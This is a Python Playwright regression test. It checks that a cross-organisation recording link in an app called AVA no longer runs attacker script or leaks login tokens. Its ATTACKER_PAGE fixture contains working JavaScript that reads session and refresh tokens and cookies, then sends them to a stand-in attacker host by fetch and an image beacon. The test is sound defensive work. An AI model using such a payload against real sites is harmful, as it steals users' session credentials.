"""The recording-link attack, replayed in Chromium: one organisation's "recording" is an attacker's page on 127.0.0.1,
and another organisation's owner, logged in, opens that organisation's signed recording link.

Before the fix AVA fetched the page and served it from its own origin, where its script read the owner's
``ava_session``/``ava_refresh`` tokens from localStorage and sent them away. (The login is now an httpOnly cookie as
well; the page still tries every place a token could be.)
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Browser, Page, expect
from sqlmodel import Session

from tests.e2e.conftest import ARTIFACTS
from tests.e2e.members import log_in, make_business, make_member
from tests.factories import make_call
from tests.servers import serve_app

pytestmark = pytest.mark.e2e

ATTACKER_PAGE = """<!doctype html><html><head><title>recording</title></head><body><script>
window.__pwned = true;
document.title = 'pwned';
const loot = JSON.stringify({
  session: localStorage.getItem('ava_session'), refresh: localStorage.getItem('ava_refresh'),
  cookie: document.cookie,
});
fetch('ATTACKER/steal?loot=' + encodeURIComponent(loot), {mode: 'no-cors'});
new Image().src = 'ATTACKER/steal-img?loot=' + encodeURIComponent(loot);
</script></body></html>"""


def test_another_organisations_recording_link_runs_no_script_and_leaks_no_token(
    live_server: str, browser: Browser, page: Page, db: Session
):
    hits: list[str] = []

    async def attacker(scope, receive, send):
        if scope["type"] != "http":
            return
        hits.append(scope["path"] + "?" + scope["query_string"].decode())
        body = ATTACKER_PAGE.replace("ATTACKER", base).encode()
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/html")]})
        await send({"type": "http.response.body", "body": body})

    with serve_app(attacker) as base:
        # The attacker's organisation: a call whose recording URL (set through its own webhook) is its page.
        attackers = make_business(db, name="Mallory Audio")
        mallory = make_member(db, tenant=attackers)
        call = make_call(db, tenant=attackers, recording_url=base + "/recording.wav")

        # Mallory takes her own signed link from her call page.
        mallory_context = browser.new_context()
        try:
            mallory_page = mallory_context.new_page()
            log_in(mallory_page, live_server, mallory.email)
            mallory_page.goto(f"{live_server}/calls/{call.id}")
            audio = mallory_page.locator("#call-audio")
            expect(audio).to_have_attribute("src", re.compile(r"^/api/v1/downloads/recording/\d+\?token="))
            link = audio.get_attribute("src")
        finally:
            mallory_context.close()

        # The victim: another organisation's owner, logged in, opens the link she was sent.
        victim = make_member(db, tenant=make_business(db, name="Victim Dental"))
        log_in(page, live_server, victim.email)
        assert any(c["name"] == "ava_sid" for c in page.context.cookies()), "the victim is logged in"
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))

        response = page.goto(live_server + link)
        page.wait_for_timeout(1500)  # time for a script, had one run, to send its loot
        page.screenshot(path=str(ARTIFACTS / "recording-link-attack.png"))

        stolen = [hit for hit in hits if hit.startswith("/steal")]
        assert stolen == [], "the victim's tokens left the browser"
        assert page.evaluate("() => window.__pwned") is None and page.title() != "pwned", "a script ran on AVA"
        assert not [url for url in requested if url.startswith(base)], "no request left for the attacker's host"
        assert hits == [], "AVA never fetched the attacker's page either"
        assert response is not None and response.status == 404
        assert "html" not in response.headers["content-type"]
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["content-security-policy"] == "sandbox"
